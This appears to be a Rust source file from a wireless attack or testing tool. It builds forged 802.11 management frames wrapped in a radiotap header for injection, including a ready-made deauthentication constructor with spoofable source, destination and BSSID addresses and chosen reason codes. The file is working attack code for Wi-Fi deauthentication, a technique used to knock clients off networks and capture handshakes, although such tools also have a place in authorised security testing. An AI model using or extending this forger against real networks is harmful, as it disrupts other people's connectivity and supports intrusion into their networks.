//! Construction of forged 802.11 management frames ready for injection.

use pnet::util::MacAddr;

use super::dot11::ManagementSubtype;
use super::mac_bytes;
use crate::error::ForgeError;

/// Minimal radiotap header: revision 0, length 8, no fields present.
const RADIOTAP_MINIMAL: [u8; 8] = [0x00, 0x00, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00];
const DURATION: [u8; 2] = [0x3a, 0x01];
const MAX_SEQUENCE: u16 = 0x0fff;

/// IEEE 802.11 reason codes used by deauthentication and disassociation frames.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u16)]
pub enum DeauthReason {
    Unspecified = 1,
    AuthNoLongerValid = 2,
    StationLeaving = 3,
    Inactivity = 4,
    /// Class 2 frame received from nonauthenticated station
    Class2FromNonAuth = 6,
    /// Class 3 frame received from nonassociated station
    Class3FromNonAssoc = 7,
}

/// Everything needed to forge one management frame.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ForgeRequest {
    pub destination: MacAddr,
    pub source: MacAddr,
    pub bssid: MacAddr,
    pub subtype: ManagementSubtype,
    pub reason: DeauthReason,
    pub sequence: u16,
}

impl ForgeRequest {
    pub fn deauth(destination: MacAddr, source: MacAddr, bssid: MacAddr, sequence: u16) -> Self {
        Self {
            destination,
            source,
            bssid,
            subtype: ManagementSubtype::Deauthentication,
            reason: DeauthReason::Class2FromNonAuth,
            sequence,
        }
    }
}

/// Turns a semantic frame request into bytes.
pub trait FrameForger: Send + Sync {
    fn forge(&self, request: &ForgeRequest) -> Result<Vec<u8>, ForgeError>;
}

/// Radiotap-wrapped management frame encoder.
#[derive(Debug, Clone, Copy, Default)]
pub struct Dot11Forger;

impl FrameForger for Dot11Forger {
    fn forge(&self, request: &ForgeRequest) -> Result<Vec<u8>, ForgeError> {
        if request.sequence > MAX_SEQUENCE {
            return Err(ForgeError::SequenceOutOfRange(request.sequence));
        }

        let mut frame = Vec::with_capacity(RADIOTAP_MINIMAL.len() + 26);
        frame.extend_from_slice(&RADIOTAP_MINIMAL);
        frame.push((request.subtype as u8) << 4);
        frame.push(0x00);
        frame.extend_from_slice(&DURATION);
        frame.extend_from_slice(&mac_bytes(request.destination));
        frame.extend_from_slice(&mac_bytes(request.source));
        frame.extend_from_slice(&mac_bytes(request.bssid));
        frame.extend_from_slice(&(request.sequence << 4).to_le_bytes());
        frame.extend_from_slice(&(request.reason as u16).to_le_bytes());
        Ok(frame)
    }
}
